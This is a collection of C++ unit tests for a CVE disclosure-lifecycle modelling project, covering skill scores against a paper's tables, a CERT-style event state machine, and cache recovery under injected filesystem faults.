  const auto it = std::find_if(timelines.begin(), timelines.end(), [](const Timeline& tl) {
    return tl.cve_id() == "CVE-2022-44877";
  });
  ASSERT_NE(it, timelines.end());
  EXPECT_FALSE(it->has(Event::kFixDeployed));
  EXPECT_FALSE(it->has(Event::kAttacks));
  EXPECT_FALSE(it->has(Event::kExploitPublic));
}

}  // namespace
}  // namespace cvewb::lifecycle
