#include "lifecycle/skill.h"

#include <gtest/gtest.h>

#include <map>

namespace cvewb::lifecycle {
namespace {

TEST(SkillFormula, AnchorsAndLinearity) {
  EXPECT_DOUBLE_EQ(skill(0.75, 0.75), 0.0);   // baseline -> no skill
  EXPECT_DOUBLE_EQ(skill(1.0, 0.75), 1.0);    // perfect -> 1
  EXPECT_DOUBLE_EQ(skill(0.875, 0.75), 0.5);  // midpoint -> 0.5
  EXPECT_LT(skill(0.39, 0.50), 0.0);          // worse than chance -> negative
  EXPECT_DOUBLE_EQ(skill(0.5, 1.0), 0.0);     // degenerate baseline guard
}

TEST(SkillFormula, InverseRoundTrips) {
  for (double baseline : {0.037, 0.19, 0.5, 0.75}) {
    for (double target : {-0.2, 0.0, 0.3, 0.9}) {
      EXPECT_NEAR(skill(observed_for_skill(target, baseline), baseline), target, 1e-12);
    }
  }
}

// Table 4: per-CVE desideratum satisfaction over the embedded dataset must
// reproduce the paper's column within rounding.
TEST(Table4, SatisfactionMatchesPaper) {
  const SkillTable table = skill_table(study_timelines());
  ASSERT_EQ(table.rows.size(), 9u);
  const std::map<std::string, double> paper = {
      {"V < A", 0.90}, {"F < P", 0.13}, {"F < X", 0.74}, {"F < A", 0.56}, {"D < P", 0.13},
      {"D < X", 0.74}, {"D < A", 0.56}, {"P < A", 0.90}, {"X < A", 0.39},
  };
  for (const auto& row : table.rows) {
    ASSERT_TRUE(paper.count(row.desideratum)) << row.desideratum;
    EXPECT_NEAR(row.satisfied, paper.at(row.desideratum), 0.035) << row.desideratum;
  }
}

TEST(Table4, SkillColumnMatchesPaper) {
  const SkillTable table = skill_table(study_timelines());
  const std::map<std::string, double> paper = {
      {"V < A", 0.62}, {"F < P", 0.02}, {"F < X", 0.61}, {"F < A", 0.29}, {"D < P", 0.10},
      {"D < X", 0.69}, {"D < A", 0.46}, {"P < A", 0.71}, {"X < A", -0.21},
  };
  for (const auto& row : table.rows) {
    EXPECT_NEAR(row.skill, paper.at(row.desideratum), 0.08) << row.desideratum;
  }
}

TEST(Table4, MeanSkillNearPaperValue) {
  // Finding 3: mean skill across desiderata is 0.37.
  const SkillTable table = skill_table(study_timelines());
  EXPECT_NEAR(table.mean_skill(), 0.37, 0.05);
}

TEST(Table4, EightOfNineDesiderataBeatBaseline) {
  // Finding 3: only X < A underperforms the baseline model.
  const SkillTable table = skill_table(study_timelines());
  int above = 0;
  for (const auto& row : table.rows) above += row.skill > 0 ? 1 : 0;
  EXPECT_EQ(above, 8);
  for (const auto& row : table.rows) {
    if (row.desideratum == "X < A") {
      EXPECT_LT(row.skill, 0.0);
    }
  }
}

TEST(Table4, FVAndDRowsCoincideUnderImmediateDeployment) {
  // With D = F (immediate IDS rule deployment) the F<e and D<e rows have
  // identical satisfaction, matching the paper's Table 4.
  const SkillTable table = skill_table(study_timelines());
  std::map<std::string, double> rate;
  for (const auto& row : table.rows) rate[row.desideratum] = row.satisfied;
  EXPECT_DOUBLE_EQ(rate["F < P"], rate["D < P"]);
  EXPECT_DOUBLE_EQ(rate["F < X"], rate["D < X"]);
  EXPECT_DOUBLE_EQ(rate["F < A"], rate["D < A"]);
}

TEST(WeightedTable, DegenerateWeightsReduceToPlainTable) {
  const auto timelines = study_timelines();
  const std::vector<double> ones(timelines.size(), 1.0);
  const SkillTable plain = skill_table(timelines);
  const SkillTable weighted = skill_table_weighted(timelines, ones);
  for (std::size_t i = 0; i < plain.rows.size(); ++i) {
    EXPECT_NEAR(plain.rows[i].satisfied, weighted.rows[i].satisfied, 1e-12);
  }
}

TEST(WeightedTable, EventWeightsShiftRatesTowardTable5) {
  // Event-count weighting moves rates toward Table 5's per-event values:
  // F < P collapses to ~0.01 (the rule-before-publication CVEs saw little
  // traffic) and D < A rises above the per-CVE 0.56.  The full 0.95 needs
  // per-event A substitution (lifecycle/exposure), not just weighting,
  // because first-attack instants precede deployment for heavy CVEs.
  const auto timelines = study_timelines();
  std::vector<double> weights;
  for (const auto& rec : data::appendix_e()) {
    weights.push_back(static_cast<double>(rec.events));
  }
  const SkillTable weighted = skill_table_weighted(timelines, weights);
  const SkillTable plain = skill_table(timelines);
  for (std::size_t i = 0; i < weighted.rows.size(); ++i) {
    const auto& row = weighted.rows[i];
    if (row.desideratum == "D < A") {
      EXPECT_GT(row.satisfied, plain.rows[i].satisfied);
      EXPECT_LT(row.satisfied, 0.85);
    }
    if (row.desideratum == "F < P") {
      EXPECT_LT(row.satisfied, 0.05);  // ~0.01 in Table 5
    }
  }
}

}  // namespace
}  // namespace cvewb::lifecycle
