#include "lifecycle/state_machine.h"

#include <gtest/gtest.h>

#include <set>

namespace cvewb::lifecycle {
namespace {

TEST(CvdState, LabelUsesCertNotation) {
  CvdState state;
  EXPECT_EQ(state.label(), "vfdpxa");
  state = state.with(Event::kVendorAwareness).with(Event::kPublicAwareness);
  EXPECT_EQ(state.label(), "VfdPxa");
  EXPECT_TRUE(state.occurred(Event::kVendorAwareness));
  EXPECT_FALSE(state.occurred(Event::kFixReady));
}

TEST(CvdState, TerminalAndCounts) {
  CvdState state;
  EXPECT_TRUE(state.is_initial());
  for (Event e : kAllEvents) state = state.with(e);
  EXPECT_TRUE(state.is_terminal());
  EXPECT_EQ(state.occurred_count(), kEventCount);
}

TEST(ClassifyState, RiskBands) {
  CvdState quiet = CvdState().with(Event::kVendorAwareness).with(Event::kFixReady);
  EXPECT_EQ(classify_state(quiet), StateRisk::kQuiet);
  CvdState racing = quiet.with(Event::kPublicAwareness);
  EXPECT_EQ(classify_state(racing), StateRisk::kRacing);
  CvdState exposed = racing.with(Event::kAttacks);
  EXPECT_EQ(classify_state(exposed), StateRisk::kExposed);
  CvdState defended = exposed.with(Event::kFixDeployed);
  EXPECT_EQ(classify_state(defended), StateRisk::kDefendedLate);
  CvdState clean = quiet.with(Event::kFixDeployed).with(Event::kPublicAwareness);
  EXPECT_EQ(classify_state(clean), StateRisk::kQuiet);
}

class CertStateMachine : public ::testing::Test {
 protected:
  StateMachine machine_{cert_model()};
};

TEST_F(CertStateMachine, ReachableStatesRespectCausality) {
  for (const CvdState state : machine_.states()) {
    // F requires V; D requires F.
    if (state.occurred(Event::kFixReady)) {
      EXPECT_TRUE(state.occurred(Event::kVendorAwareness));
    }
    if (state.occurred(Event::kFixDeployed)) {
      EXPECT_TRUE(state.occurred(Event::kFixReady));
    }
    // Propagation closure: X implies P implies V.
    if (state.occurred(Event::kExploitPublic)) {
      EXPECT_TRUE(state.occurred(Event::kPublicAwareness)) << state.label();
    }
    if (state.occurred(Event::kPublicAwareness)) {
      EXPECT_TRUE(state.occurred(Event::kVendorAwareness)) << state.label();
    }
  }
  // Far fewer than 2^6 states are reachable under these rules.
  EXPECT_LT(machine_.states().size(), 40u);
  EXPECT_GT(machine_.states().size(), 10u);
}

TEST_F(CertStateMachine, TransitionsLandInReachableStates) {
  std::set<std::uint8_t> reachable;
  for (const CvdState s : machine_.states()) reachable.insert(s.mask());
  for (const Transition& t : machine_.transitions()) {
    EXPECT_TRUE(reachable.count(t.from.mask()));
    EXPECT_TRUE(reachable.count(t.to.mask()));
    EXPECT_GT(t.to.occurred_count(), t.from.occurred_count());
    EXPECT_TRUE(t.to.occurred(t.via));
  }
}

TEST_F(CertStateMachine, ExactlySeventyHistoriesAsInCertPaper) {
  // Householder & Spring report 70 possible histories for their model;
  // the causal structure recovered from their baseline probabilities
  // (F<-V, D<-F, X=>P=>V) yields exactly that count.
  EXPECT_EQ(machine_.history_count(), 70u);
  EXPECT_EQ(machine_.states().size(), 20u);
}

TEST_F(CertStateMachine, HistoriesAreCompleteAndCounted) {
  const auto histories = machine_.histories();
  EXPECT_EQ(histories.size(), machine_.history_count());
  for (const auto& history : histories) {
    EXPECT_EQ(history.size(), kEventCount);  // every event exactly once
    std::set<Event> seen(history.begin(), history.end());
    EXPECT_EQ(seen.size(), kEventCount);
  }
}

TEST_F(CertStateMachine, HistoryCountMatchesMarkovSupport) {
  // Every sampled Markov history must appear in the enumerated set.
  const auto histories = machine_.histories();
  std::set<std::vector<Event>> all(histories.begin(), histories.end());
  util::Rng rng(5);
  for (int i = 0; i < 200; ++i) {
    EXPECT_TRUE(all.count(sample_history(cert_model(), rng)));
  }
}

TEST_F(CertStateMachine, VisitProbabilities) {
  EXPECT_DOUBLE_EQ(machine_.visit_probability(CvdState()), 1.0);
  const CvdState terminal((1u << kEventCount) - 1);
  EXPECT_NEAR(machine_.visit_probability(terminal), 1.0, 1e-9);
  // The fully-quiet "vendor knows, public doesn't" path state.
  const CvdState vendor_only = CvdState().with(Event::kVendorAwareness);
  const double p = machine_.visit_probability(vendor_only);
  EXPECT_GT(p, 0.0);
  EXPECT_LT(p, 1.0);
}

TEST(UnconstrainedStateMachine, FullHypercube) {
  const StateMachine machine{unconstrained_model()};
  EXPECT_EQ(machine.states().size(), 64u);
  EXPECT_EQ(machine.history_count(), 720u);
}

TEST_F(CertStateMachine, ExposedStatesExist) {
  std::size_t exposed = 0;
  for (const CvdState state : machine_.states()) {
    exposed += classify_state(state) == StateRisk::kExposed ? 1 : 0;
  }
  EXPECT_GT(exposed, 0u);
}

}  // namespace
}  // namespace cvewb::lifecycle
