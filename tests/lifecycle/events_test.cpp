#include "lifecycle/events.h"

#include <gtest/gtest.h>

#include <set>

namespace cvewb::lifecycle {
namespace {

TEST(Events, LettersRoundTrip) {
  for (Event e : kAllEvents) {
    const auto parsed = event_from_letter(event_letter(e));
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, e);
  }
}

TEST(Events, NamesAreDistinct) {
  std::set<std::string_view> names;
  for (Event e : kAllEvents) names.insert(event_name(e));
  EXPECT_EQ(names.size(), kEventCount);
}

TEST(Events, ParseRejectsUnknown) {
  EXPECT_FALSE(event_from_letter("Z").has_value());
  EXPECT_FALSE(event_from_letter("VA").has_value());
  EXPECT_FALSE(event_from_letter("").has_value());
}

TEST(Events, IndexMatchesEnumeratorOrder) {
  EXPECT_EQ(index_of(Event::kVendorAwareness), 0u);
  EXPECT_EQ(index_of(Event::kAttacks), 5u);
}

}  // namespace
}  // namespace cvewb::lifecycle
