// Golden recovery: interrupt a journaled study at every stage boundary, at
// one and at four threads, across three seeds -- and prove the resumed run
// converges to a StudyResult byte-identical to an uninterrupted one.  The
// interruption is the chaos_cancel_after_stage hook, which fires the
// cancel token immediately after a checkpoint persists: the exact moment a
// SIGTERM landing on a durable stage boundary would be observed.
#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "cache/key.h"
#include "obs/observability.h"
#include "pipeline/manifest.h"
#include "pipeline/supervisor.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

namespace fs = std::filesystem;
using test_support::serialize_study;

StudyConfig small_config(std::uint64_t seed, int threads, const std::string& cache_dir) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  config.cache_dir = cache_dir;
  // An active fault plan keeps the faults checkpoint a real stage.
  config.faults.blackout_count = 2;
  config.faults.blackout_duration = util::Duration::hours(12);
  config.faults.session_loss_rate = 0.03;
  config.faults.snaplen = 300;
  config.faults.corruption_rate = 0.02;
  config.faults.duplication_rate = 0.04;
  config.faults.reorder_rate = 0.05;
  config.faults.clock_skew_max = util::Duration::minutes(10);
  config.faults.lanes = 10;
  return config;
}

fs::path fresh_dir(const std::string& tag) {
  const fs::path dir = fs::path(::testing::TempDir()) / "cvewb_recovery" / tag;
  fs::remove_all(dir);
  return dir;
}

// The checkpointed pipeline stages, in order; cancelling after stage i
// must leave exactly stages [0, i] journaled.
const std::vector<std::string> kBoundaries = {"traffic", "faults", "reconstruct"};

class RecoveryGolden : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(RecoveryGolden, InterruptAtAnyBoundaryThenResumeIsByteIdentical) {
  const std::uint64_t seed = GetParam();
  // Reference: one uninterrupted, cache-free run.
  const std::string reference = serialize_study(run_study(small_config(seed, 1, "")));
  const std::string reference_digest = util::sha256_hex(reference);

  for (int threads : {1, 4}) {
    for (std::size_t boundary = 0; boundary < kBoundaries.size(); ++boundary) {
      const std::string& stage = kBoundaries[boundary];
      const std::string tag =
          "seed_" + std::to_string(seed) + "_t" + std::to_string(threads) + "_" + stage;
      const fs::path dir = fresh_dir(tag);

      // Interrupted run: the token fires right after `stage`'s checkpoint
      // lands in the journal.
      auto interrupted = small_config(seed, threads, dir.string());
      interrupted.chaos_cancel_after_stage = stage;
      const RunReport report = RunSupervisor(interrupted).run();
      EXPECT_EQ(report.status, RunStatus::kCancelled) << tag;
      EXPECT_EQ(report.error_class, ErrorClass::kCancelled) << tag;
      EXPECT_TRUE(report.resumable) << tag;
      EXPECT_FALSE(report.result.has_value()) << tag;

      // The journal records exactly the completed prefix, as interrupted.
      const std::string run_key = cache::run_key(interrupted);
      const auto manifest = ManifestJournal(dir, run_key).load();
      ASSERT_TRUE(manifest.has_value()) << tag;
      EXPECT_EQ(manifest->status, "interrupted") << tag;
      ASSERT_EQ(manifest->stages.size(), boundary + 1) << tag;
      for (std::size_t i = 0; i <= boundary; ++i) {
        ASSERT_NE(manifest->find(kBoundaries[i]), nullptr) << tag;
      }

      // Resume: the same configuration, no hook.  Completed stages are
      // served from the cache; the journal adopts their checkpoints; the
      // result is byte-identical to never having been interrupted.
      obs::Observability observability;
      auto resumed = small_config(seed, threads, dir.string());
      resumed.observability = &observability;
      const RunReport resumed_report = RunSupervisor(resumed).run();
      ASSERT_TRUE(resumed_report.ok()) << tag << ": " << resumed_report.message;
      const std::string resumed_bytes = serialize_study(*resumed_report.result);
      EXPECT_EQ(reference_digest, util::sha256_hex(resumed_bytes)) << tag;
      ASSERT_EQ(reference, resumed_bytes) << tag;

      const auto counters = observability.metrics.snapshot().counters;
      EXPECT_EQ(counters.at("resume/stages_prior"), boundary + 1) << tag;
      EXPECT_GE(counters.at("cache/hit"), boundary + 1) << tag;

      // And the journal now records a completed run.
      const auto final_manifest = ManifestJournal(dir, run_key).load();
      ASSERT_TRUE(final_manifest.has_value()) << tag;
      EXPECT_EQ(final_manifest->status, "complete") << tag;
      EXPECT_EQ(final_manifest->stages.size(), kBoundaries.size()) << tag;

      fs::remove_all(dir);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, RecoveryGolden, ::testing::Values(11ULL, 5081ULL, 900913ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

}  // namespace
}  // namespace cvewb::pipeline
