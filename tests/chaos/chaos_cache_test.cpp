// Chaos sweep over the fs shim and the stage cache: every injected fault
// class -- EIO reads, ENOSPC writes, torn writes, failed renames -- must
// degrade (a miss, a recompute, a failed-but-clean put), never crash,
// never hang, and never change a single byte of the StudyResult.  This is
// the proof obligation behind DESIGN.md's failure-model contract.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "cache/store.h"
#include "chaos/fs_shim.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::chaos {
namespace {

namespace fs = std::filesystem;
using cache::CacheStore;
using pipeline::test_support::serialize_study;

fs::path fresh_dir(const std::string& tag) {
  const fs::path dir = fs::path(::testing::TempDir()) / "cvewb_chaos" / tag;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

std::size_t count_files_matching(const fs::path& dir, const std::string& needle) {
  std::size_t n = 0;
  std::error_code ec;
  for (fs::recursive_directory_iterator it(dir, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
    if (it->is_regular_file() && it->path().filename().string().find(needle) != std::string::npos) {
      ++n;
    }
  }
  return n;
}

// ------------------------------------------------------------- shim itself

TEST(FsShim, PassthroughRoundTripsAndInjectsNothing) {
  const fs::path dir = fresh_dir("passthrough");
  FsShim shim;  // default = transparent
  ASSERT_TRUE(shim.write_file(dir / "a", "hello"));
  std::string out;
  ASSERT_TRUE(shim.read_file(dir / "a", out));
  EXPECT_EQ(out, "hello");
  ASSERT_TRUE(shim.rename(dir / "a", dir / "b"));
  ASSERT_TRUE(shim.read_file(dir / "b", out));
  EXPECT_EQ(out, "hello");
  EXPECT_FALSE(shim.read_file(dir / "missing", out));
  EXPECT_EQ(shim.stats().injected_total(), 0u);
  fs::remove_all(dir);
}

TEST(FsShim, InjectionIsADeterministicFunctionOfThePlan) {
  // Two shims with the same plan, driven through the same op sequence,
  // must fail exactly the same operations -- regardless of wall-clock and
  // of interleaving read ops between the writes (per-class op counters).
  const fs::path dir = fresh_dir("determinism");
  FsFaultPlan plan;
  plan.seed = 20260806;
  plan.eio_read_rate = 0.35;
  plan.enospc_write_rate = 0.2;
  plan.torn_write_rate = 0.2;
  plan.rename_fail_rate = 0.3;

  const auto drive = [&](FsShim& shim, bool interleave_reads) {
    std::vector<int> outcomes;
    std::string scratch;
    for (int i = 0; i < 64; ++i) {
      const fs::path target = dir / ("f" + std::to_string(i));
      outcomes.push_back(shim.write_file(target, std::string(100, 'x')) ? 1 : 0);
      if (interleave_reads) (void)shim.read_file(target, scratch);
      outcomes.push_back(shim.rename(target, dir / ("g" + std::to_string(i))) ? 1 : 0);
    }
    return outcomes;
  };

  FsShim first(plan);
  FsShim second(plan);
  const auto a = drive(first, false);
  const auto b = drive(second, true);  // extra reads must not perturb write/rename faults
  EXPECT_EQ(a, b);
  EXPECT_EQ(first.stats().injected_enospc, second.stats().injected_enospc);
  EXPECT_EQ(first.stats().injected_torn, second.stats().injected_torn);
  EXPECT_EQ(first.stats().injected_rename_fail, second.stats().injected_rename_fail);
  EXPECT_GT(first.stats().injected_total(), 0u);  // the plan actually bites

  // A different seed produces a different fault pattern (no accidental
  // plan-independence).
  FsFaultPlan reseeded = plan;
  reseeded.seed = 77;
  FsShim third(reseeded);
  EXPECT_NE(drive(third, false), a);
  fs::remove_all(dir);
}

TEST(FsShim, TornWriteReportsSuccessButLeavesOnlyAPrefix) {
  const fs::path dir = fresh_dir("torn");
  FsFaultPlan plan;
  plan.seed = 3;
  plan.torn_write_rate = 1.0;
  FsShim shim(plan);
  const std::string payload(1000, 'q');
  // The lie at the heart of the torn-write model: success reported, bytes
  // not durable.
  EXPECT_TRUE(shim.write_file(dir / "torn", payload));
  EXPECT_LT(fs::file_size(dir / "torn"), payload.size());
  EXPECT_EQ(shim.stats().injected_torn, 1u);
  fs::remove_all(dir);
}

TEST(FsShim, EnospcFailsTheWriteAndEioFailsTheRead) {
  const fs::path dir = fresh_dir("enospc_eio");
  FsFaultPlan plan;
  plan.seed = 4;
  plan.enospc_write_rate = 1.0;
  plan.eio_read_rate = 1.0;
  obs::Observability observability;
  FsShim shim(plan, &observability);
  EXPECT_FALSE(shim.write_file(dir / "full", std::string(100, 'z')));
  // A real file that cannot be read: EIO, not a miss.
  std::ofstream(dir / "present") << "bytes";
  std::string out;
  EXPECT_FALSE(shim.read_file(dir / "present", out));
  EXPECT_EQ(shim.stats().injected_enospc, 1u);
  EXPECT_EQ(shim.stats().injected_eio, 1u);
  const auto counters = observability.metrics.snapshot().counters;
  EXPECT_EQ(counters.at("chaos/enospc"), 1u);
  EXPECT_EQ(counters.at("chaos/eio"), 1u);
  fs::remove_all(dir);
}

TEST(FsShim, FailedRenameLeavesTheSourceInPlace) {
  const fs::path dir = fresh_dir("rename");
  FsFaultPlan plan;
  plan.seed = 5;
  plan.rename_fail_rate = 1.0;
  FsShim shim(plan);
  std::ofstream(dir / "src") << "payload";
  EXPECT_FALSE(shim.rename(dir / "src", dir / "dst"));
  EXPECT_TRUE(fs::exists(dir / "src"));
  EXPECT_FALSE(fs::exists(dir / "dst"));
  fs::remove_all(dir);
}

// --------------------------------------------------- cache under injection

TEST(ChaosCache, EioReadDegradesToAnIoErrorMiss) {
  const fs::path dir = fresh_dir("cache_eio");
  {
    CacheStore clean(dir);
    ASSERT_TRUE(clean.put("deadbeef", "payload", "test"));
  }
  FsFaultPlan plan;
  plan.seed = 6;
  plan.eio_read_rate = 1.0;
  obs::Observability observability;
  FsShim shim(plan, &observability);
  util::RetryPolicy retry;
  retry.max_retries = 2;
  retry.backoff_base = std::chrono::microseconds(1);
  CacheStore store(dir, &observability, &shim, retry);
  EXPECT_EQ(store.get("deadbeef", "test"), std::nullopt);
  EXPECT_EQ(store.stats().io_errors, 1u);
  EXPECT_EQ(store.stats().retries, 2u);  // 1 + max_retries attempts, all EIO
  EXPECT_EQ(store.stats().corrupt, 0u);  // I/O error, not validation failure
  const auto counters = observability.metrics.snapshot().counters;
  EXPECT_EQ(counters.at("cache/io_error"), 1u);
  EXPECT_EQ(counters.at("cache/retry"), 2u);
  EXPECT_EQ(counters.at("cache/miss"), 1u);
  fs::remove_all(dir);
}

TEST(ChaosCache, FailedPutsNeverLeaveAStrayTemp) {
  // The put() bugfix under test: write and rename failures must unlink the
  // temp file before reporting, for every injected failure class.
  for (const char* mode : {"enospc", "rename"}) {
    const fs::path dir = fresh_dir(std::string("cache_put_") + mode);
    FsFaultPlan plan;
    plan.seed = 7;
    if (std::string(mode) == "enospc") {
      plan.enospc_write_rate = 1.0;
    } else {
      plan.rename_fail_rate = 1.0;
    }
    FsShim shim(plan);
    CacheStore store(dir, nullptr, &shim);
    std::string digest;
    EXPECT_FALSE(store.put("cafe0123", std::string(5000, 'p'), "test", &digest)) << mode;
    // Digest-chaining callers stay correct even on the failure path.
    EXPECT_EQ(digest.size(), 64u) << mode;
    EXPECT_EQ(store.stats().io_errors, 1u) << mode;
    EXPECT_EQ(count_files_matching(dir, ".tmp."), 0u) << mode;
    // The failed put degrades to a plain miss on the next get.
    CacheStore reader(dir);
    EXPECT_EQ(reader.get("cafe0123", "test"), std::nullopt) << mode;
    fs::remove_all(dir);
  }
}

TEST(ChaosCache, TornWriteIsCaughtByValidationAsACorruptMiss) {
  const fs::path dir = fresh_dir("cache_torn");
  FsFaultPlan plan;
  plan.seed = 8;
  plan.torn_write_rate = 1.0;
  FsShim shim(plan);
  obs::Observability observability;
  CacheStore store(dir, &observability, &shim);
  // The torn write reports success; nobody could have known.
  EXPECT_TRUE(store.put("0badf00d", std::string(2000, 't'), "test"));
  // Header+digest validation catches it on the way back out: a corrupt
  // miss (and a recompute upstream), never a wrong payload.
  CacheStore reader(dir, &observability);
  EXPECT_EQ(reader.get("0badf00d", "test"), std::nullopt);
  EXPECT_EQ(reader.stats().corrupt, 1u);
  EXPECT_EQ(observability.metrics.snapshot().counters.at("cache/corrupt"), 1u);
  fs::remove_all(dir);
}

TEST(ChaosCache, RetriesHealTransientFaults) {
  // At a 60% fault rate with a generous retry budget, puts and gets land
  // with overwhelming probability -- and every retry is counted.
  const fs::path dir = fresh_dir("cache_retry");
  FsFaultPlan plan;
  plan.seed = 9;
  plan.eio_read_rate = 0.6;
  plan.enospc_write_rate = 0.6;
  FsShim shim(plan);
  util::RetryPolicy retry;
  retry.max_retries = 40;
  retry.backoff_base = std::chrono::microseconds(1);
  retry.backoff_cap = std::chrono::microseconds(10);
  CacheStore store(dir, nullptr, &shim, retry);
  ASSERT_TRUE(store.put("feedface", "resilient payload", "test"));
  const auto got = store.get("feedface", "test");
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(*got, "resilient payload");
  EXPECT_GT(store.stats().retries, 0u);
  EXPECT_EQ(store.stats().io_errors, 0u);
  fs::remove_all(dir);
}

TEST(ChaosCache, GcSweepsOrphanedTempFiles) {
  const fs::path dir = fresh_dir("cache_gc");
  CacheStore store(dir);
  ASSERT_TRUE(store.put("00e1e2e3", "kept payload", "test"));
  // Simulate writers that died outright mid-put (SIGKILL: no cleanup path
  // ever ran), stranding temps next to a healthy entry.
  fs::create_directories(dir / "00");
  std::ofstream(dir / "00" / "dead1.cwbc.tmp.1234.1") << "partial";
  std::ofstream(dir / "00" / "dead2.cwbc.tmp.5678.2") << std::string(100, 'x');
  obs::Observability observability;
  const auto result = CacheStore::gc(dir, 1'000'000, &observability);
  EXPECT_EQ(result.tmp_removed, 2u);
  EXPECT_EQ(result.corrupt_removed, 0u);
  EXPECT_EQ(result.kept, 1u);
  EXPECT_EQ(observability.metrics.snapshot().counters.at("cache/gc_tmp"), 2u);
  EXPECT_EQ(count_files_matching(dir, ".tmp."), 0u);
  // The healthy entry survived the sweep.
  EXPECT_TRUE(CacheStore(dir).get("00e1e2e3", "test").has_value());
  fs::remove_all(dir);
}

// ------------------------------------------------- whole study under chaos

pipeline::StudyConfig chaos_study_config(std::uint64_t seed, const std::string& cache_dir) {
  pipeline::StudyConfig config;
  config.seed = seed;
  config.threads = 2;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  config.cache_dir = cache_dir;
  config.faults.blackout_count = 2;
  config.faults.blackout_duration = util::Duration::hours(12);
  config.faults.session_loss_rate = 0.03;
  config.faults.snaplen = 300;
  config.faults.corruption_rate = 0.02;
  config.faults.duplication_rate = 0.04;
  config.faults.reorder_rate = 0.05;
  config.faults.clock_skew_max = util::Duration::minutes(10);
  config.faults.lanes = 10;
  return config;
}

TEST(ChaosStudy, AggressiveFaultPlanNeverChangesAByteOfTheResult) {
  const std::uint64_t seed = 5081;
  const fs::path dir = fresh_dir("study");

  // Reference: no cache, no chaos.
  auto reference_config = chaos_study_config(seed, "");
  const std::string reference = serialize_study(pipeline::run_study(reference_config));

  // Chaos run: every fault class active against the cache, manifest, and
  // report-free path, with a modest retry budget.
  FsFaultPlan plan;
  plan.seed = 424242;
  plan.eio_read_rate = 0.3;
  plan.enospc_write_rate = 0.15;
  plan.torn_write_rate = 0.15;
  plan.rename_fail_rate = 0.2;
  obs::Observability observability;
  FsShim shim(plan, &observability);
  auto config = chaos_study_config(seed, dir.string());
  config.fs_shim = &shim;
  config.io_retry.max_retries = 2;
  config.io_retry.backoff_base = std::chrono::microseconds(1);
  config.observability = &observability;
  const std::string under_chaos = serialize_study(pipeline::run_study(config));
  EXPECT_EQ(util::sha256_hex(reference), util::sha256_hex(under_chaos));
  ASSERT_EQ(reference, under_chaos);
  EXPECT_GT(shim.stats().injected_total(), 0u);  // the plan actually fired

  // A rerun against whatever the chaotic cache left behind (complete
  // entries, missing entries -- but never accepted-corrupt ones) still
  // reproduces the reference bytes, this time with no shim at all.
  auto warm_config = chaos_study_config(seed, dir.string());
  ASSERT_EQ(reference, serialize_study(pipeline::run_study(warm_config)));
  fs::remove_all(dir);
}

}  // namespace
}  // namespace cvewb::chaos
