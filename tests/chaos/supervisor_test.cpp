// Unit coverage for the supervision layer: CancelToken semantics, the
// retry/backoff policy, the StudyError taxonomy, the manifest journal's
// update discipline, and RunSupervisor's promise that no failure mode
// escapes as an unclassified exception.
#include <gtest/gtest.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>

#include "cache/key.h"
#include "chaos/fs_shim.h"
#include "obs/observability.h"
#include "pipeline/manifest.h"
#include "pipeline/study_error.h"
#include "pipeline/supervisor.h"
#include "util/cancel.h"
#include "util/retry.h"

namespace cvewb::pipeline {
namespace {

namespace fs = std::filesystem;

fs::path fresh_dir(const std::string& tag) {
  const fs::path dir = fs::path(::testing::TempDir()) / "cvewb_supervisor" / tag;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

// ------------------------------------------------------------ CancelToken

TEST(CancelToken, FirstReasonWinsAndCheckThrows) {
  util::CancelToken token;
  EXPECT_FALSE(token.cancelled());
  EXPECT_NO_THROW(token.check("idle"));
  token.request_cancel();
  token.request_cancel(util::CancelReason::kDeadline);  // loses: already fired
  EXPECT_TRUE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kUser);
  try {
    token.check("stage_x");
    FAIL() << "check must throw once fired";
  } catch (const util::CancelledError& e) {
    EXPECT_EQ(e.reason(), util::CancelReason::kUser);
    EXPECT_NE(std::string(e.what()).find("stage_x"), std::string::npos);
  }
}

TEST(CancelToken, DeadlineExpiryLatchesAcrossDisarm) {
  util::CancelToken token;
  token.arm_deadline(std::chrono::steady_clock::now() - std::chrono::milliseconds(1));
  // Expired but not yet observed: the next observation latches it...
  EXPECT_TRUE(token.cancelled());
  // ...so a later disarm (the StageScope destructor) cannot un-cancel.
  token.disarm_deadline();
  EXPECT_TRUE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kDeadline);
}

TEST(CancelToken, DisarmBeforeExpiryObservationClearsTheDeadline) {
  util::CancelToken token;
  token.arm_deadline(std::chrono::steady_clock::now() + std::chrono::hours(24));
  EXPECT_FALSE(token.cancelled());
  token.disarm_deadline();
  EXPECT_FALSE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kNone);
}

// ------------------------------------------------------------ retry_io

TEST(RetryPolicy, BackoffScheduleIsDeterministicAndCapped) {
  util::RetryPolicy policy;
  policy.backoff_base = std::chrono::microseconds(500);
  policy.backoff_multiplier = 2.0;
  policy.backoff_cap = std::chrono::microseconds(3000);
  EXPECT_EQ(policy.delay(0).count(), 500);
  EXPECT_EQ(policy.delay(1).count(), 1000);
  EXPECT_EQ(policy.delay(2).count(), 2000);
  EXPECT_EQ(policy.delay(3).count(), 3000);  // capped
  EXPECT_EQ(policy.delay(10).count(), 3000);
}

